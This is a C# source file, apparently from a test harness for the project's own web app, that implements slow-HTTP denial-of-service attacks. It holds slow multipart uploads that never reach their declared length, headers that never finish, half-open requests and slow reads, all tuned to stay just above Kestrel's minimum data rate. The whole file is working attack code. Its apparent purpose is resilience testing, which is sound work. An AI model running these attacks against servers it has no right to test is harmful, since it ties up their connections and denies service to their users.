using System.Net.Sockets;
using System.Text;

namespace Frat.Compare.Attack;

/// <summary>
/// Connections that send or read a little now and then (H3), each fast enough for Kestrel's own limit of 240 bytes a second.
/// </summary>
internal static class SlowAttacks
{
    private static readonly string[] Uploads = ["/api/v1/check-ins", "/attendance", "/api/v1/photos/assess", "/register", "/api/v1/people"];
    private static readonly TimeSpan Tick = TimeSpan.FromMilliseconds(250);

    /// <summary>Uploads that announce their length, and never reach it.</summary>
    public static Task UploadAsync(
        AttackTarget target, int connections, int announced, int bytesPerSecond, CancellationToken cancellationToken) =>
        Connections.RunAsync(connections, async (i, cancel) =>
        {
            using var socket = await target.ConnectAsync(i, cancel);
            target.Tally.Begin();
            var head = target.Head("POST", Uploads[i % Uploads.Length]) + "Content-Type: multipart/form-data; boundary=frat\r\n"
                + $"Content-Length: {announced}\r\n\r\n";
            await target.SendAsync(
                socket, head + "--frat\r\nContent-Disposition: form-data; name=\"image\"; filename=\"a.jpg\"\r\n\r\n", cancel);
            await DripAsync(target, socket, new byte[bytesPerSecond / 4], cancel);
        }, cancellationToken);

    /// <summary>Requests whose headers never end.</summary>
    public static Task HeadersAsync(AttackTarget target, int connections, CancellationToken cancellationToken) =>
        Connections.RunAsync(connections, async (i, cancel) =>
        {
            using var socket = await target.ConnectAsync(i, cancel);
            target.Tally.Begin();
            await target.SendAsync(socket, target.Head("POST", "/api/v1/check-ins") + "X: ", cancel);
            await DripAsync(target, socket, "a"u8.ToArray(), cancel);
        }, cancellationToken);

    /// <summary>Requests of which only the beginning comes.</summary>
    public static Task HalfOpenAsync(AttackTarget target, int connections, CancellationToken cancellationToken) =>
        Connections.RunAsync(connections, async (i, cancel) =>
        {
            using var socket = await target.ConnectAsync(i, cancel);
            target.Tally.Begin();
            await target.SendAsync(socket, target.Head("POST", "/api/v1/check-ins") + "Content-", cancel);
            while (!await target.IsOverAsync(socket, cancel))
            {
                await Task.Delay(TimeSpan.FromSeconds(1), cancel);
            }
        }, cancellationToken);

    /// <summary>Readers of long answers who take their time.</summary>
    public static Task ReadAsync(
        AttackTarget target, int connections, int bytesPerSecond, string[] paths, CancellationToken cancellationToken) =>
        Connections.RunAsync(connections, async (i, cancel) =>
        {
            using var socket = await target.ConnectAsync(i, cancel);
            socket.ReceiveBufferSize = 4096;
            target.Tally.Begin();
            await target.SendAsync(socket, target.Head("GET", paths[i % paths.Length]) + "\r\n", cancel);
            var piece = new byte[bytesPerSecond / 4];
            var first = true;
            for (int count; (count = await socket.ReceiveAsync(piece, cancel)) > 0; first = false)
            {
                if (first && count >= 12)
                {
                    target.Tally.Answered(Encoding.ASCII.GetString(piece, 9, 3));
                }

                await Task.Delay(Tick, cancel);
            }

            target.Tally.Answered("read to the end");
        }, cancellationToken);

    private static async Task DripAsync(AttackTarget target, Socket socket, byte[] drop, CancellationToken cancellationToken)
    {
        while (!await target.IsOverAsync(socket, cancellationToken))
        {
            await target.SendAsync(socket, drop, cancellationToken);
            await Task.Delay(Tick, cancellationToken);
        }
    }
}
